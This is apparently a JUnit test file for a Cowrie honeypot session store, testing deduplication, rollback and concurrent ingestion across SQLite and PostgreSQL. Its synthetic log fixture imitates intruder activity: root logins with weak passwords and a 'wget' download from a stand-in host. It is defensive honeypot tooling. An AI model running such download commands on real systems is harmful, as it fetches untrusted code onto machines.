package io.github.cowriekit.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.model.intel.SessionRecord;
import io.github.cowriekit.parser.CowrieLog;
import io.github.cowriekit.store.fixtures.Answers;
import io.github.cowriekit.store.fixtures.RandomSessions;
import io.github.cowriekit.store.fixtures.Recount;
import io.github.cowriekit.store.fixtures.Stores;
import io.github.cowriekit.store.internal.codec.SessionIdentity;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.LongPredicate;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** A session is in a store once, whichever way it comes. */
class IngestTest {
    private static final long SEED = Long.getLong("cowrie.seed", 20_261_131L);
    private static final Instant START = Instant.parse("2026-03-01T10:00:00.123456Z");
    private static final List<String> TABLES = List.of("subject", "session", "posting", "position");

    private final RandomSessions generator = new RandomSessions(SEED);

    @ParameterizedTest
    @EnumSource
    void addsTheSameSessionsOnce(Stores kind) {
        List<SessionRecord> sessions = generator.next(300);
        Stores.Place place = kind.place();
        try (SessionStore store = place.open()) {
            assertThat(store.ingest(sessions.stream())).isEqualTo(new IngestSummary(300, 0, 0));
            assertThat(store.ingest(sessions.stream())).isEqualTo(new IngestSummary(0, 0, 300));
            Answers.assertHolds(store, new Recount(sessions));
        }
        try (SessionStore store = place.open()) {
            assertThat(store.ingest(sessions.stream())).isEqualTo(new IngestSummary(0, 0, 300));
            Answers.assertHolds(store, new Recount(sessions));
        }
    }

    @ParameterizedTest
    @EnumSource
    void replacesTheSessionsWithinWhichALogWasCut(Stores kind) {
        byte[] whole = log(120);
        List<EnrichedSession> sessions = parse(whole);
        for (int percent : new int[] {20, 55, 90}) {
            List<EnrichedSession> cut = parse(Arrays.copyOf(whole, whole.length * percent / 100));
            long within = cut.stream()
                    .filter(session -> session.session().end() != SessionEnd.CLOSED)
                    .count();
            assertThat(within).isBetween(5L, 60L);
            try (SessionStore store = kind.open()) {
                assertThat(store.ingest(cut.stream())).isEqualTo(new IngestSummary(cut.size(), 0, 0));
                assertThat(store.ingest(sessions.stream()))
                        .isEqualTo(new IngestSummary(sessions.size() - cut.size(), within, cut.size() - within));
                Answers.assertHolds(store, new Recount(sessions));

                assertThat(store.ingest(cut.stream())).isEqualTo(new IngestSummary(0, 0, cut.size()));
                Answers.assertHolds(store, new Recount(sessions));
            }
        }
    }

    @ParameterizedTest
    @EnumSource
    void keepsTheFullestCopyWithinABatch(Stores kind) {
        List<SessionRecord> sessions = generator.next(100);
        List<SessionRecord> given = new ArrayList<>();
        for (SessionRecord session : sessions) {
            SessionRecord cut = generator.cut(session);
            given.addAll(given.size() % 2 == 0 ? List.of(cut, session, session) : List.of(session, cut, cut));
        }
        try (SessionStore store = kind.open()) {
            assertThat(store.ingest(given.stream())).isEqualTo(new IngestSummary(100, 0, 200));
            Answers.assertHolds(store, new Recount(sessions));
        }
    }

    @ParameterizedTest
    @EnumSource
    void takesTheAddressThatACutSessionLacked(Stores kind) {
        Session cut = session("0a", START).source(Endpoint.UNKNOWN).build();
        Session same = session("0b", START.plusSeconds(1))
                .commands(List.of(new Command(null, "id", false, null)))
                .build();
        Session whole = session("0a", START)
                .commands(List.of(new Command(null, "id", false, null)))
                .eventCounts(Map.of("cowrie.command.input", 1L))
                .build();
        try (SessionStore store = kind.open()) {
            ingestEach(store, Stream.of(cut, same, whole));

            Answers.assertHolds(
                    store,
                    new Recount(Stream.of(whole, same).map(EnrichedSession::of).toList()));
        }
    }

    @ParameterizedTest
    @EnumSource
    void tellsSessionsApartWhoseKeysAreEqual(Stores kind) {
        List<Session> sessions = new ArrayList<>(colliding(START, key -> true, 7));
        sessions.addAll(colliding(null, key -> true, 3));
        try (SessionStore store = kind.open()) {
            assertThat(ingestEach(store, sessions.stream())).isEqualTo(new IngestSummary(10, 0, 0));
            assertThat(ingestEach(store, sessions.stream())).isEqualTo(new IngestSummary(0, 0, 10));
            Answers.assertHolds(
                    store,
                    new Recount(sessions.stream().map(EnrichedSession::of).toList()));

            List<Session> fuller = sessions.stream()
                    .map(session -> Session.builder(session.id(), SessionEnd.CLOSED)
                            .sensor(session.sensor())
                            .source(session.source())
                            .startedAt(session.startedAt())
                            .eventCounts(Map.of("cowrie.session.connect", 1L))
                            .build())
                    .toList();
            List<Session> shuffled = new ArrayList<>(fuller);
            Collections.shuffle(shuffled, new Random(SEED));
            assertThat(ingestEach(store, shuffled.stream())).isEqualTo(new IngestSummary(0, 10, 0));
            Answers.assertHolds(
                    store, new Recount(fuller.stream().map(EnrichedSession::of).toList()));
        }
    }

    /** The keys of a microsecond end where those of the next one begin. */
    @ParameterizedTest
    @EnumSource
    void keepsSessionsWithEqualKeysInTheirMicrosecond(Stores kind) {
        List<Session> sessions = colliding(START, key -> (key & 2047) == 2047, 4);
        Session next = session("99", START.plus(1, ChronoUnit.MICROS)).build();
        try (SessionStore store = kind.open()) {
            ingestEach(store, Stream.concat(sessions.stream(), Stream.of(next)));

            Instant end = START.plus(1, ChronoUnit.MICROS);
            assertThat(store.sessions().between(START, end).stream().map(StoredSession::session))
                    .containsExactlyInAnyOrderElementsOf(sessions);
            assertThat(store.sessions().since(end).stream().map(StoredSession::session))
                    .containsExactly(next);
            assertThat(store.findValue(ValueKind.SENSOR, "one").map(ValueSummary::last))
                    .contains(end);
            assertThat(ingestEach(store, sessions.stream())).isEqualTo(new IngestSummary(0, 0, 4));
        }
    }

    @ParameterizedTest
    @EnumSource
    void tellsSessionsWithoutAStartApartByIdAndSensor(Stores kind) {
        List<Session> sessions = new ArrayList<>();
        for (String id : List.of("0a", "0b", "x")) {
            sessions.add(session(id, null).build());
            sessions.add(session(id, null).sensor("two").build());
            sessions.add(session(id, null).sensor(null).build());
            sessions.add(session(id, START).build());
        }
        try (SessionStore store = kind.open()) {
            assertThat(ingestEach(store, sessions.stream())).isEqualTo(new IngestSummary(12, 0, 0));
            assertThat(ingestEach(store, sessions.stream())).isEqualTo(new IngestSummary(0, 0, 12));
            Answers.assertHolds(
                    store,
                    new Recount(sessions.stream().map(EnrichedSession::of).toList()));
            assertThat(store.sessions().since(Instant.EPOCH).count()).isEqualTo(3);
        }
    }

    @ParameterizedTest
    @EnumSource
    void leavesNothingOfABatchThatFails(Stores kind) {
        Stores.Place place = kind.place();
        List<SessionRecord> before = generator.next(50);
        List<SessionRecord> sessions = generator.next(200);
        try (SessionStore store = place.open()) {
            SessionWriter writer = store.writer();
            before.forEach(writer::add);
            IngestSummary first = writer.commit();
            assertThat(first.added()).isEqualTo(50);
            List<Long> rows = rows(place);
            sessions.forEach(writer::add);
            writer.position("log", new byte[] {1});

            failOnPositions(kind, place);
            assertThatThrownBy(writer::commit).isInstanceOf(StoreException.class);
            assertThat(rows(place)).isEqualTo(rows);
            assertThat(store.findPosition("log")).isEmpty();
            Answers.assertHolds(store, new Recount(before));

            place.execute("DROP TRIGGER broken" + (kind == Stores.POSTGRESQL ? " ON position" : ""));
            List<SessionRecord> others = generator.next(20);
            try (SessionStore other = place.open()) {
                // takes the numbers that were given in vain
                assertThat(other.ingest(others.stream()).added()).isEqualTo(20);
            }
            assertThat(writer.commit().added()).isEqualTo(250);
            assertThat(store.findPosition("log")).hasValue(new byte[] {1});
            Answers.assertHolds(
                    store,
                    new Recount(Stream.of(before, sessions, others)
                            .flatMap(List::stream)
                            .toList()));
        }
    }

    private static void failOnPositions(Stores kind, Stores.Place place) {
        if (kind == Stores.SQLITE) {
            place.execute("CREATE TRIGGER broken BEFORE INSERT ON position BEGIN SELECT RAISE(ABORT, 'broken'); END");
        } else {
            place.execute(
                    "CREATE FUNCTION broken() RETURNS trigger LANGUAGE plpgsql AS"
                            + " $$ BEGIN RAISE EXCEPTION 'broken'; END $$",
                    "CREATE TRIGGER broken BEFORE INSERT ON position FOR EACH ROW EXECUTE FUNCTION broken()");
        }
    }

    private static List<Long> rows(Stores.Place place) {
        return TABLES.stream()
                .map(table -> place.number("SELECT count(*) FROM " + table))
                .toList();
    }

    @ParameterizedTest
    @EnumSource
    void leavesNothingOfASourceThatFails(Stores kind) {
        Stores.Place place = kind.place();
        List<SessionRecord> sessions = generator.next(20);
        try (SessionStore store = place.open()) {
            assertThatThrownBy(() -> store.ingest(sessions.stream().peek(session -> {
                        if (session.equals(sessions.get(19))) {
                            throw new IllegalStateException("the log is gone");
                        }
                    })))
                    .hasMessage("the log is gone");
            assertThat(rows(place)).containsOnly(0L);
        }
    }

    @ParameterizedTest
    @EnumSource
    void takesTheSameSessionsFromSeveralWritersAtOnce(Stores kind) throws Exception {
        Stores.Place place = kind.place();
        List<SessionRecord> sessions = generator.next(400);
        ExecutorService threads = Executors.newFixedThreadPool(4);
        try (SessionStore store = place.open();
                SessionStore other = place.open()) {
            List<Callable<IngestSummary>> writers = new ArrayList<>();
            for (int i = 0; i < 4; i++) {
                SessionStore one = i % 2 == 0 ? store : other;
                List<SessionRecord> order = new ArrayList<>(sessions);
                Collections.rotate(order, i * 90);
                writers.add(() -> ingestInParts(one, order, 17));
            }
            long added = 0;
            for (Future<IngestSummary> done : threads.invokeAll(writers)) {
                assertThat(done.get().total()).isEqualTo(400);
                added += done.get().added();
            }
            assertThat(added).isEqualTo(400);
            Answers.assertHolds(store, new Recount(sessions));
        } finally {
            threads.shutdownNow();
        }
    }

    @ParameterizedTest
    @EnumSource
    void isMadeOnceIfSeveralOpenItAtOnce(Stores kind) throws Exception {
        ExecutorService threads = Executors.newFixedThreadPool(4);
        try {
            for (int i = 0; i < 15; i++) {
                Stores.Place place = kind.place();
                Callable<Long> open = () -> {
                    try (SessionStore store = place.open()) {
                        return store.sessions().count();
                    }
                };
                for (Future<Long> count : threads.invokeAll(Collections.nCopies(4, open))) {
                    assertThat(count.get()).isZero();
                }
            }
        } finally {
            threads.shutdownNow();
        }
    }

    @ParameterizedTest
    @EnumSource
    void isTheSameAfterManySmallCommits(Stores kind) {
        List<SessionRecord> sessions = generator.next(600);
        List<SessionRecord> oldestFirst = new Recount(sessions).sessions();
        List<SessionRecord> newestFirst = new ArrayList<>(oldestFirst);
        Collections.reverse(newestFirst);
        for (List<SessionRecord> order : List.of(oldestFirst, newestFirst, sessions, late(oldestFirst))) {
            Stores.Place place = kind.place();
            try (SessionStore store = place.open()) {
                assertThat(ingestInParts(store, order, 1)).isEqualTo(new IngestSummary(600, 0, 0));
                Answers.assertHolds(store, new Recount(sessions));
                // an entry takes about seven bytes and a row is filled up to 512, so this is a quarter of what fits
                assertThat(place.number("SELECT count(*) FROM posting"))
                        .isLessThan(place.number("SELECT sum(1 + sessions / 18) FROM subject WHERE sessions > 1"));
            }
        }
    }

    /** One half and then the other: another sensor's log, or an old one that is added later. */
    private static List<SessionRecord> late(List<SessionRecord> sessions) {
        List<SessionRecord> late = new ArrayList<>(sessions);
        Collections.rotate(late, sessions.size() / 2);
        return late;
    }

    private static IngestSummary ingestInParts(SessionStore store, List<SessionRecord> sessions, int size) {
        SessionWriter writer = store.writer();
        IngestSummary summary = IngestSummary.NONE;
        for (int i = 0; i < sessions.size(); i++) {
            writer.add(sessions.get(i));
            if (i % size == 0 || i == sessions.size() - 1) {
                summary = writer.commit();
            }
        }
        return summary;
    }

    private static IngestSummary ingestEach(SessionStore store, Stream<Session> sessions) {
        return ingestInParts(
                store, sessions.<SessionRecord>map(EnrichedSession::of).toList(), 1);
    }

    private static SessionBuilder session(String id, @Nullable Instant start) {
        return Session.builder(id, SessionEnd.CLOSED)
                .sensor("one")
                .source(new Endpoint("198.51.100.1", 4_000))
                .startedAt(start);
    }

    /** Returns sessions that would all like to have the same key. */
    private static List<Session> colliding(@Nullable Instant start, LongPredicate wanted, int count) {
        if (start == null) {
            // 62 bits of hash do not collide by chance
            return IntStream.range(0, count)
                    .mapToObj(i -> session("%012x".formatted(i), null).build())
                    .toList();
        }
        Map<Long, List<Session>> byKey = new HashMap<>();
        for (int i = 0; ; i++) {
            Session session = session("%012x".formatted(i), start).build();
            long key = SessionIdentity.of(session).key();
            if (wanted.test(key)) {
                List<Session> same = byKey.computeIfAbsent(key, unknown -> new ArrayList<>());
                same.add(session);
                if (same.size() == count) {
                    return same;
                }
            }
        }
    }

    private static byte[] log(int sessions) {
        List<String> lines = new ArrayList<>();
        for (int moment = 0; moment < sessions + 20; moment++) {
            for (int step = 0; step < 5; step++) {
                int session = moment - step * 5;
                if (session >= 0 && session < sessions) {
                    lines.add(line(session, moment * 5 + step, STEPS.get(step).formatted(session % 10)));
                }
            }
        }
        return (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
    }

    private static final List<String> STEPS = List.of(
            "\"cowrie.session.connect\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.%d\",\"src_port\":4000",
            "\"cowrie.login.success\",\"username\":\"root\",\"password\":\"pass%d\"",
            "\"cowrie.command.input\",\"input\":\"uname -a %d\"",
            "\"cowrie.command.input\",\"input\":\"wget http://203.0.113.%d/x\"",
            "\"cowrie.session.closed\",\"duration\":12.%d");

    private static String line(int session, int second, String event) {
        return "{\"session\":\"%012x\",\"sensor\":\"one\",\"timestamp\":\"%s\",\"eventid\":%s}"
                .formatted(session, START.plusSeconds(second), event);
    }

    private static List<EnrichedSession> parse(byte[] log) {
        try (Stream<Session> sessions = CowrieLog.from("log", new ByteArrayInputStream(log))
                .onProblem(problem -> {})
                .sessions()) {
            return sessions.map(EnrichedSession::of).toList();
        }
    }
}
